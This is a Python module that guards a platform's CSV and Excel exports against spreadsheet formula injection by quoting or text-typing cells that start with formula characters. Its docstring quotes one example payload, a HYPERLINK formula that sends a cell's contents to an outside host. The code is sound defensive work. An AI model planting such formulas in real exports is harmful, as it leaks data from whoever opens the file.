"""Cells of the CSV and Excel files the platform writes: nothing in them runs as a formula.

A spreadsheet reads a cell starting with =, +, -, @, a tab or a carriage return as a formula
(OWASP "CSV injection"): a name such as =HYPERLINK("http://x?leak="&A1) would run when an
organiser opens the export. In CSV, where every cell is text, such a cell gets a leading quote
(the OWASP rule). In Excel files it is written as a typed text cell with Excel's quote prefix,
so the value stays exactly what was stored and is shown as text. Every export writes its rows
through `csv_writer` or `append_row`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as a CSV cell: text a spreadsheet would run gets a leading quote."""
    return "'" + value if is_risky(value) else value


class CsvWriter:
    """csv.writer whose rows are neutralised (same writerow / writerows)."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> CsvWriter:
    return CsvWriter(file, **options)


def _as_text(cell) -> None:
    cell.data_type = "s"
    cell.quotePrefix = True


def append_row(sheet, row: Iterable) -> None:
    """Append a row to an openpyxl worksheet (normal or write-only); risky text as text cells."""
    values = list(row)
    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            if is_risky(value):
                cell = WriteOnlyCell(sheet, value=value)
                _as_text(cell)
                cells.append(cell)
            else:
                cells.append(value)
        sheet.append(cells)
        return
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if is_risky(cell.value):
            _as_text(cell)
